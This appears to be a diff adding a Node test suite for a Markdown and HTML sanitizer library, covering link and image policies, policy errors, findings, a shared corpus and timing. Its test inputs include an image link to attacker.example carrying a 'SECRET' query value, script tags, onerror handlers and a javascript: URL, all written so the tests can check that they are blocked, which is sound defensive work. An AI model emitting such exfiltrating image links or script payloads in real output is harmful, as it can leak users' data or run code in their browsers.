@@ -1,0 +1,104 @@
+// node's test runner over the package API, the policy errors, the findings and the shared
+// corpus. Runs against the built package (pkg-js/dist; build with scripts/build-js.sh).
+
+import test from 'node:test';
+import assert from 'node:assert/strict';
+import { performance } from 'node:perf_hooks';
+import { init, renderMarkdown, sanitizeHtml, Sanitizer } from '../dist/node.js';
+import { corpus, peers, read, expectationProblems, unsafeBits, answerOfSize } from './corpus.js';
+
+test('node entry is ready on import; init() is a no-op', async () => {
+  await init();
+  assert.equal(renderMarkdown('# hi'), '<h1>hi</h1>\n');
+});
+
+test('default policy blocks images and untrusted links', () => {
+  const html = renderMarkdown('![s](https://attacker.example/p.png?d=SECRET) [x](https://evil.example/)');
+  const { elements, text } = read(html);
+  assert.equal(elements.filter((e) => e.name === 'img').length, 0);
+  assert.equal(elements.filter((e) => e.name === 'a').length, 0);
+  assert.match(text, /\[image: s\]/);
+  assert.match(text, /x \(evil\.example\)/);
+});
+
+test('a policy object or JSON string widens the policy', () => {
+  const policy = { links: { allow: ['https://docs.example.com/'] }, images: { allow: ['https://img.example.com/'] } };
+  for (const p of [policy, JSON.stringify(policy)]) {
+    const { elements } = read(renderMarkdown('[d](https://docs.example.com/a) ![i](https://img.example.com/i.png)', p));
+    assert.deepEqual(elements.filter((e) => e.name === 'a').map((e) => e.attrs.href), ['https://docs.example.com/a']);
+    assert.deepEqual(elements.filter((e) => e.name === 'img').map((e) => e.attrs.src), ['https://img.example.com/i.png']);
+  }
+});
+
+test('sanitizeHtml removes script and handlers', () => {
+  const html = sanitizeHtml('<p onclick="x()">a<script>alert(1)</script></p><img src=x onerror=alert(1)>');
+  assert.deepEqual(unsafeBits(html), []);
+  assert.equal(read(html).text, 'a[image]');
+});
+
+test('Sanitizer: compiled once, inspect returns findings', () => {
+  const s = new Sanitizer({ links: { allow: ['https://docs.example.com/'] } });
+  const out = s.inspect('![x](https://attacker.example/p.png?d=1) <script>1</script>');
+  assert.ok(out.html.includes('safemark-blocked-image'));
+  const blocked = out.findings.find((f) => f.kind === 'blocked_image');
+  assert.equal(blocked.host, 'attacker.example');
+  assert.equal(blocked.url, 'https://attacker.example/p.png?d=1');
+  assert.deepEqual(blocked.range, { start: 0, end: 40 });
+  assert.ok(out.findings.some((f) => f.kind === 'script'));
+  const h = s.inspectHtml('<a href="javascript:alert(1)">x</a>');
+  assert.equal(h.findings[0].kind, 'unsafe_scheme');
+  assert.deepEqual(s.policy.links.allow, ['https://docs.example.com/']);
+  assert.equal(s.policy.id_prefix, 'user-content-');
+  assert.equal(typeof s.renderMarkdownTrusted('x'), 'string', 'no Trusted Types in node: a string');
+  s.free();
+});
+
+test('errors are Error objects with the Rust message, naming the key', () => {
+  assert.throws(() => new Sanitizer({ links: { alow: [] } }), (e) => e instanceof Error && e.message.startsWith('invalid policy: `links.alow`: unknown field'));
+  assert.throws(() => new Sanitizer({ links: { allow: ['not a url'] } }), (e) => e instanceof Error && e.message.includes('`links.allow[0]`'));
+  assert.throws(() => renderMarkdown('x', '{'), Error);
+  assert.throws(() => renderMarkdown('x', '[]'), /a policy is a JSON object/);
+  const small = new Sanitizer({ limits: { max_input_bytes: 4 } });
+  assert.throws(() => small.renderMarkdown('hello'), (e) => e instanceof Error && e.message === 'input is 5 bytes, over the limit of 4 bytes (limits.max_input_bytes)');
+});
+
+test('shared corpus: every case meets its expectations', () => {
+  let checked = 0;
+  const sanitizers = Object.fromEntries(Object.entries(corpus.policies).map(([name, p]) => [name, new Sanitizer(p)]));
+  const problems = [];
+  for (const c of corpus.cases) {
+    const s = sanitizers[c.policy];
+    const out = c.mode === 'markdown' ? s.inspect(c.input) : s.inspectHtml(c.input);
+    const p = expectationProblems(c, out);
+    if (p.length) problems.push(`${c.name}: ${p.join('; ')}`);
+    checked++;
+  }
+  assert.ok(checked >= 100, `only ${checked} cases`);
+  assert.deepEqual(problems, []);
+});
+
+test('peer vectors: nothing unsafe in either mode or policy', () => {
+  const problems = [];
+  for (const [name, p] of Object.entries(corpus.policies)) {
+    const s = new Sanitizer(p);
+    for (const v of peers) {
+      for (const html of [s.renderMarkdown(v.input), s.sanitizeHtml(v.input)]) {
+        const bad = unsafeBits(html);
+        if (bad.length) problems.push(`${v.source} ${v.id} (${name}): ${bad}`);
+        assert.equal(s.sanitizeHtml(html), html, `fixpoint: ${v.id}`);
+      }
+    }
+  }
+  assert.deepEqual(problems, []);
+});
+
+test('timing: a 20 KB answer (reported, not asserted)', () => {
+  const answer = answerOfSize(20 * 1024);
+  const s = new Sanitizer();
+  for (let i = 0; i < 20; i++) s.renderMarkdown(answer);
+  const runs = 200;
+  const t0 = performance.now();
+  for (let i = 0; i < runs; i++) s.renderMarkdown(answer);
+  const ms = (performance.now() - t0) / runs;
+  console.log(`# node ${process.version}: 20 KB answer rendered in ${ms.toFixed(3)} ms (${(20 / 1024 / (ms / 1000)).toFixed(1)} MB/s)`);
+});
